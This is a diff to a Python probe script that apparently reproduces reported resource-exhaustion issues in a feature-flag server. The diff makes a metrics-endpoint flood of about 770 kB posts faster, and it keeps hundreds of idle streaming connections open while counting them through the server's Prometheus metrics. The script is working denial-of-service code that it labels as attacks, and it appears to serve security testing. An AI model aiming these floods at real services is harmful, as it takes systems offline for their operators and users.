@@ -298,17 +298,23 @@ def _every_flag(variants: int) -> dict[str, Any]:
 
 def _frontend_app_flood(session: aiohttp.ClientSession, base: str, i: int) -> Awaitable[int]:
     """Issue 24 #1: the public frontend token, a new appName each post, every flag named
-    with 100 variants (about 770 kB a post at 300 flags)."""
+    with 100 variants (about 770 kB a post at 300 flags; serialised once, the appName
+    swapped in, so the probe's client is not what limits its rate)."""
+    body = _FLOOD_BODY[0].replace(b"flood-00000000", f"flood-{i:08d}".encode())
+    headers = {"Authorization": _FRONTEND[0], "Content-Type": "application/json"}
+    return _status(session.post(f"{base}/api/frontend/client/metrics", data=body, headers=headers))
+
+
+def _flood_body() -> bytes:
     body = {
-        "appName": f"flood-{i}-{secrets.token_hex(4)}",
-        "instanceId": f"browser-{i}",
-        "bucket": {"start": _now(-1), "stop": _now(), "toggles": _FLOOD_TOGGLES[0]},
+        "appName": "flood-00000000",
+        "instanceId": "browser-1",
+        "bucket": {"start": _now(-1), "stop": _now(), "toggles": _every_flag(100)},
     }
-    headers = {"Authorization": _FRONTEND[0]}
-    return _status(session.post(f"{base}/api/frontend/client/metrics", json=body, headers=headers))
+    return json.dumps(body).encode()
 
 
-_FLOOD_TOGGLES: list[dict[str, Any]] = []
+_FLOOD_BODY: list[bytes] = []
 
 
 def _future_buckets(session: aiohttp.ClientSession, base: str, i: int) -> Awaitable[int]:
@@ -339,7 +345,8 @@ async def _idle_streams(base: str, count: int, seconds: float) -> dict[Any, Any]
     """Issue 24 #5: ``count`` streams from one client token and one address, each socket
     with a 4 kB receive buffer, never read past the status line. Held for --stream-hold
     seconds (the issue saw them open after 40 s); reports the answers, the kernel TCP
-    memory at its peak, and how many the server still held open at the end."""
+    memory at its peak, and how many the server still held open at the end (by its own
+    ``flagcore_streaming_clients``)."""
     host, port = base.removeprefix("http://").split(":")
     request = (
         f"GET /api/client/streaming HTTP/1.1\r\nHost: {host}\r\nAuthorization: {CLIENT}\r\n\r\n"
@@ -369,7 +376,7 @@ async def _idle_streams(base: str, count: int, seconds: float) -> dict[Any, Any]
     while time.perf_counter() < deadline:
         peak = max(peak, _tcp_mb())
         await asyncio.sleep(0.2)
-    still_open = sum(1 for sock in opened if _held_open(sock))
+    still_open = await loop.run_in_executor(None, _streams_open, base)
     for sock in opened:
         sock.close()
     statuses[f"open after {_STREAM_HOLD[0]:g} s"] = still_open
@@ -377,15 +384,16 @@ async def _idle_streams(base: str, count: int, seconds: float) -> dict[Any, Any]
     return statuses
 
 
-def _held_open(sock: socket.socket) -> bool:
-    """Whether the server still holds this stream: a peek finds data or nothing yet; a
-    reset or an end of stream means it was closed."""
-    try:
-        return bool(sock.recv(1, socket.MSG_PEEK))
-    except BlockingIOError:
-        return True
-    except OSError:
-        return False
+def _streams_open(base: str) -> int:
+    """The streams the server holds open now, from its ``flagcore_streaming_clients``."""
+    request = urllib.request.Request(
+        f"{base}/internal-backstage/prometheus", headers={"Authorization": ADMIN}
+    )
+    with urllib.request.urlopen(request, timeout=30) as response:
+        for line in response.read().decode().splitlines():
+            if line.startswith("flagcore_streaming_clients "):
+                return int(float(line.split()[1]))
+    return -1
 
 
 async def _phase(
@@ -559,7 +567,7 @@ async def _main(args: argparse.Namespace) -> int:
             ("frontend metrics, new appNames", _frontend_app_flood, 400),
             ("metrics, buckets dated 2999", _future_buckets, 2_000),
         ]
-        _FLOOD_TOGGLES.append(_every_flag(100))
+        _FLOOD_BODY.append(_flood_body())
         _FUTURE_TOGGLES.append(_every_flag(3))
         attacks: list[tuple[str, Callable[[str, int, float], Awaitable[Any]], int]] = [
             ("streams never read", _idle_streams, 800),
